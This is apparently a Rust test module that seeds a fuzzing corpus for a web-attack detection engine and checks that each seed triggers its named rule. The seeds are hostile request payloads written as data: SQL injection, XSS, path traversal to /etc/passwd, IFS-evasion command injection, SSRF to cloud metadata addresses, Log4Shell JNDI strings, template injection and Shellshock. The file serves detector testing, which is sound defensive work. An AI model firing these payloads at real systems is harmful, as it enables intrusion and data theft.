//! The seed corpus of `detection_signatures`: requests that reach each rule and decoder, and
//! each limit with the small caps. Written to `corpus/detection_signatures/` from here
//! (`UPDATE_CORPUS=1 cargo test`); a test fails when the files differ.

use super::encode;

const JSON: u8 = 0;
const FORM: u8 = 1;
const MULTIPART: u8 = 2;
const TEXT: u8 = 3;

/// (file name, input).
pub fn seeds() -> Vec<(&'static str, Vec<u8>)> {
    let deep = format!(
        "{}\"<script>alert(1)</script>\"{}",
        "[".repeat(8),
        "]".repeat(8)
    );
    vec![
        (
            "query_sqli_xss",
            encode(JSON, false, &[b"GET", b"/search", b"id=1%27%20OR%20%271%27%3D%271&q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"]),
        ),
        (
            "path_traversal",
            encode(JSON, false, &[b"GET", b"/static/..%252f..%252f..%252fetc/passwd", b"file=....//....//etc/passwd"]),
        ),
        (
            "command_and_ssrf",
            encode(FORM, false, &[b"POST", b"/api/ping", b"", b"", b"", b"", b"", b"ip=127.0.0.1%3Bcat%24%7BIFS%7D/etc/passwd&url=http://0x7f.1/&cb=http://[::ffff:169.254.169.254]/"]),
        ),
        (
            "json_templates",
            encode(JSON, false, &[b"POST", b"/api/render", b"", b"", b"", b"", b"", br#"{"t":"{{''.__class__.__mro__}}","u":"${${lower:j}ndi:ldap://x/a}","n":[{"k":"<%= 7*7 %>"}],"<k>":"MScgT1IgJzEnPScx"}"#]),
        ),
        (
            "headers_cookies",
            encode(TEXT, false, &[b"GET", b"/", b"", b"a=1; pref=x%3Bwhoami; lang=${jndi:dns://x}", b"() { :; }; /bin/bash -c id", b"https://site.example/\"><svg/onload=alert(1)>", b"127.0.0.1' OR '1'='1"]),
        ),
        (
            "multipart_fields",
            encode(MULTIPART, false, &[b"POST", b"/upload", b"", b"", b"", b"", b"", b"--b\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<img src=x onerror=alert(1)>\r\n--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n\x89PNG\r\n--b--\r\n"]),
        ),
        (
            "entities_and_overlong",
            encode(TEXT, false, &[b"GET", b"/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", b"q=&#60;img src=x onerror=alert&#40;1&#41;&#62;&f=..%u2215..%u2215etc%u2215passwd", b"", b"", b"", b"", b"java&Tab;script:alert(1)"]),
        ),
        (
            "small_caps",
            encode(JSON, true, &[b"GET", b"/a/b/c/d/e/f/g/h/i", b"p=1&q=2&r=3", b"", b"", b"", b"", deep.as_bytes()]),
        ),
        (
            "benign",
            encode(FORM, false, &[b"POST", b"/api/v1/users/123", b"page=2&sort=-created_at&q=O%27Brien", b"session=abc; theme=dark", b"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/121.0", b"https://www.example.com/search?q=union+station", b"203.0.113.7, 10.0.0.2", b"name=select+a+plan&note=Tom+%26+Jerry&url=https%3A%2F%2Fexample.com%2F"]),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use std::{fs, path::PathBuf};

    use super::seeds;
    use crate::signatures::run;

    fn corpus_dir() -> PathBuf {
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("corpus/detection_signatures")
    }

    #[test]
    fn corpus_files_are_the_seeds() {
        let dir = corpus_dir();
        let update = std::env::var_os("UPDATE_CORPUS").is_some();
        for (name, bytes) in seeds() {
            let path = dir.join(name);
            if update {
                fs::create_dir_all(&dir).unwrap();
                fs::write(&path, &bytes).unwrap();
            }
            let on_disk = fs::read(&path).unwrap_or_default();
            assert!(
                on_disk == bytes,
                "{} is stale: run `UPDATE_CORPUS=1 cargo test` in monitor/fuzz",
                path.display()
            );
        }
    }

    fn rules(name: &str) -> Vec<&'static str> {
        let (_, input) = seeds().into_iter().find(|(n, _)| *n == name).unwrap();
        run(&input)
    }

    /// Each seed reaches the rules it is named for, so the fuzzer starts from there.
    #[test]
    fn seeds_match_as_intended() {
        let has = |name: &str, rule: &str| {
            let got = rules(name);
            assert!(got.contains(&rule), "{name}: {got:?} lacks {rule}");
        };
        has("query_sqli_xss", "libinjection_sqli");
        has("query_sqli_xss", "libinjection_xss");
        has("path_traversal", "dotdot_sensitive_file");
        has("command_and_ssrf", "ifs_evasion");
        has("command_and_ssrf", "encoded_address");
        has("json_templates", "template_object_access");
        has("json_templates", "log4shell_jndi");
        has("json_templates", "template_arithmetic");
        has("headers_cookies", "shellshock");
        has("multipart_fields", "libinjection_xss");
        has("entities_and_overlong", "script_url");
        assert_eq!(rules("small_caps").len(), 0);
        assert_eq!(rules("benign"), Vec::<&str>::new());
    }
}
